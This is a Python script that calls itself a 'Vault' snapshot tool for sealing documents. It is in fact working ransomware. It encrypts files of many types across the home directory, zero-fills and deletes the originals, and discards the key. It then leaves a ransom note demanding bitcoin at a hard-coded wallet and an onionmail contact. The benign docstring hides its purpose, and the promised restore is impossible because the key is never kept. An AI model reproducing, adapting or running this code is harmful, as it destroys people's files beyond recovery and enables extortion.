#!/usr/bin/env python3
""""Vault" snapshot: seal user documents into encrypted containers.

Walks the home directory, encrypts every document with a fresh key,
writes <name>.vault next to it and removes the plaintext.  The key is
not stored locally; a restore token is left in RESTORE_YOUR_FILES.txt.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

TARGET_EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".odt",
              ".sql", ".csv", ".psd", ".zip", ".txt", ".pptx", ".kdbx", ".mp4"}
SKIP_DIRS = {".cache", ".local", ".mozilla", "snap", ".vscode-server", "node_modules"}
NOTE = """Your files have been sealed with military grade encryption.
To get them back send 0.15 BTC to {wallet} and email {contact}
with your restore id: {rid}
Do not rename .vault files or you will lose them forever.
"""


class Sealer:
    def __init__(self, key: bytes):
        self.aead = AESGCM(key)
        self.sealed = 0

    def seal(self, path: Path) -> None:
        nonce = os.urandom(12)
        data = path.read_bytes()
        blob = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + ".vault")
        with open(out, "wb") as fh:
            fh.write(blob)
        # overwrite then remove the original so it cannot be undeleted
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed += 1


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for fn in filenames:
            p = Path(dirpath, fn)
            if p.suffix.lower() in TARGET_EXT and not fn.endswith(".vault"):
                yield p


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", type=Path, default=Path.home())
    ap.add_argument("--wallet", default="bc1q8c6fshw2dlwun7ekn9qwf37cu2rn755upcp6el")
    ap.add_argument("--contact", default="restore-desk@onionmail.org")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    key = AESGCM.generate_key(bit_length=256)
    rid = secrets.token_hex(8)
    sealer = Sealer(key)
    for path in candidates(args.root):
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    note = args.root / "RESTORE_YOUR_FILES.txt"
    note.write_text(NOTE.format(wallet=args.wallet, contact=args.contact, rid=rid))
    del key
    print(f"sealed {sealer.sealed} files, id {rid}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
